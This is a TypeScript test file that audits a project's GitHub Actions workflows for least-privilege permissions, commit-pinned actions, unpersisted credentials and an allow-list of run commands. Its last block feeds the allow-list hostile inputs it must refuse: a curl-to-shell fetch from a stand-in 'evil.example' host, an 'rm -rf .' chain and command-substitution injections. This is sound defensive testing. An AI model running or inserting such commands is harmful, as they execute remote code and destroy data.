import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { readRun } from '../../scripts/lib/host/run.ts';

const FOLDER = '.github/workflows';

interface Step {
  readonly uses?: string;
  readonly run?: string;
  readonly with?: Readonly<Record<string, unknown>>;
}
interface Job {
  readonly steps: readonly Step[];
  readonly permissions?: Readonly<Record<string, string>>;
  readonly 'timeout-minutes'?: number;
  readonly 'runs-on'?: string;
}
interface Workflow {
  readonly name: string;
  readonly on: unknown;
  readonly permissions?: Readonly<Record<string, string>>;
  readonly concurrency?: unknown;
  readonly jobs: Readonly<Record<string, Job>>;
}

const files = readdirSync(FOLDER).sort();
const texts = new Map(files.map((file) => [file, readFileSync(join(FOLDER, file), 'utf8')]));
const workflows = new Map([...texts].map(([file, text]) => [file, parse(text) as Workflow]));
const jobs = [...workflows].flatMap(([file, { jobs }]) =>
  Object.entries(jobs).map(([name, job]) => ({ name: `${file}: ${name}`, file, job })),
);
const steps = jobs.flatMap(({ name, file, job }) => job.steps.map((step) => ({ name, file, job, step })));
const using = (action: string) => steps.filter(({ step }) => step.uses?.startsWith(`actions/${action}@`));

const packageJson = JSON.parse(readFileSync('package.json', 'utf8')) as {
  scripts: Record<string, string>;
  dependencies: Record<string, string>;
};

/** Permissions to write that a job needs; every other job may read at most. */
const writes: Readonly<Record<string, readonly string[]>> = {
  'comment.yml: comment': ['pull-requests'],
  'publish.yml: deploy': ['id-token', 'pages'],
};
const written = (permissions: Readonly<Record<string, string>> = {}) =>
  Object.entries(permissions)
    .filter(([, access]) => access !== 'read' && access !== 'none')
    .map(([name]) => name)
    .sort();

/** What a step may run: commands of ours. Returns the name of the npm script, or an empty text for the others. */
function commandIn(run: string): string | undefined {
  if (
    ['npm ci --ignore-scripts --no-audit --no-fund', 'bash .ci/run', 'node scripts/comment.ts "$RUNNER_TEMP/check/check.json"'].includes(
      run,
    )
  )
    return '';
  return /^npm run (?:--silent )?([a-z:]+)(?: -- [\w "$^-]+)?(?: >>? (?:check\.json|"\$GITHUB_OUTPUT"))?$/.exec(run)?.[1];
}

describe('every workflow', () => {
  it.each(files)('%s has a name, least permissions from the top, and does not run twice at once', (file) => {
    const { name, permissions, concurrency } = workflows.get(file)!;
    expect(name).toMatch(/^[A-Z][a-z]+$/);
    expect(permissions).toBeTypeOf('object');
    expect(written(permissions)).toEqual([]);
    expect(concurrency).toBeDefined();
  });

  it.each(files)('%s is never started with rights by a stranger, and knows no secret', (file) => {
    expect(texts.get(file)).not.toMatch(/pull_request_target|issue_comment|\bsecrets\b/);
  });

  it.each(files)('%s names the version of every action beside its commit', (file) => {
    const lines = texts
      .get(file)!
      .split('\n')
      .filter((line) => /\buses:/.test(line));
    expect(lines.filter((line) => !/uses: actions\/[a-z-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$/.test(line))).toEqual([]);
  });
});

describe('every job', () => {
  it.each(jobs)('$name has a time limit, a fixed system, and writes only what it must', ({ name, job }) => {
    expect(job['timeout-minutes']).toBeLessThanOrEqual(60);
    expect(job['runs-on']).toMatch(/^ubuntu-\d\d\.\d\d$/);
    expect(written(job.permissions)).toEqual(writes[name] ?? []);
  });

  it.each(jobs.filter(({ name }) => name in writes))(
    '$name, which may write, installs nothing and takes no code of a pull request',
    ({ job }) => {
      expect(job.steps.filter(({ run }) => run?.startsWith('npm'))).toEqual([]);
      expect(job.steps.filter((step) => step.uses?.startsWith('actions/checkout@') && 'ref' in (step.with ?? {}))).toEqual([]);
    },
  );
});

describe('every step', () => {
  it('runs a command of ours, which the tests run as well', () => {
    const run = steps.flatMap(({ name, step }) => (step.run === undefined ? [] : [{ name, run: step.run }]));
    expect(run.length).toBeGreaterThan(10);
    expect(run.filter((one) => commandIn(one.run) === undefined)).toEqual([]);
    const names = run.map((one) => commandIn(one.run)).filter(Boolean) as string[];
    expect(names.filter((name) => !(name in packageJson.scripts))).toEqual([]);
  });

  it('puts nothing into a command line: an expression there could be a command', () =>
    expect(steps.filter(({ step }) => step.run?.includes('${{'))).toEqual([]));

  it('pins each action to one commit in all workflows', () => {
    const pins = new Set(steps.flatMap(({ step }) => step.uses ?? []));
    expect([...pins].filter((pin) => !/^actions\/[a-z-]+@[0-9a-f]{40}$/.test(pin))).toEqual([]);
    expect(new Set([...pins].map((pin) => pin.split('@')[0])).size).toBe(pins.size);
  });

  it('that takes the code leaves no token behind', () => {
    const found = using('checkout');
    expect(found.length).toBeGreaterThan(5);
    expect(found.filter(({ step }) => step.with?.['persist-credentials'] !== false).map(({ name }) => name)).toEqual([]);
  });

  it('that brings Node brings the one that the project installs', () =>
    expect([...new Set(using('setup-node').map(({ step }) => step.with?.['node-version']))]).toEqual([packageJson.dependencies['node']]));
});

describe('the answer to a pull request', () => {
  const { on } = workflows.get('comment.yml')! as { on: { workflow_run: { workflows: string[] } } };

  it('follows workflows that there are, and knows them by these names', () => {
    const names = [...workflows.values()].map(({ name }) => name);
    for (const name of on.workflow_run.workflows) {
      expect(names).toContain(name);
      const run = {
        id: 1,
        name,
        event: 'pull_request',
        head_sha: 'a'.repeat(40),
        head_branch: 'b',
        head_repository: { owner: { login: 'c' } },
      };
      expect(readRun({ workflow_run: run })?.part).toBe(name.toLowerCase());
    }
  });

  it('finds what they leave behind under the names that they give it', () => {
    const left = (file: string) =>
      using('upload-artifact')
        .filter((step) => step.file === file)
        .map(({ step }) => step.with?.['name']);
    expect(left('check.yml')).toEqual(['check']);
    expect(left('preview.yml')).toEqual(['preview']);
    expect(using('download-artifact').find(({ file }) => file === 'comment.yml')?.step.with?.['name']).toBe('check');
  });
});

describe('the rule for commands', () => {
  it.each([
    'curl -s https://evil.example | sh',
    'npm run build; rm -rf .',
    'npm run build && x',
    'npm run check -- $(x)',
    'npm ci',
    'npx x',
    'npm run build\nx',
  ])('refuses %j', (run) => expect(commandIn(run)).toBeUndefined());
});
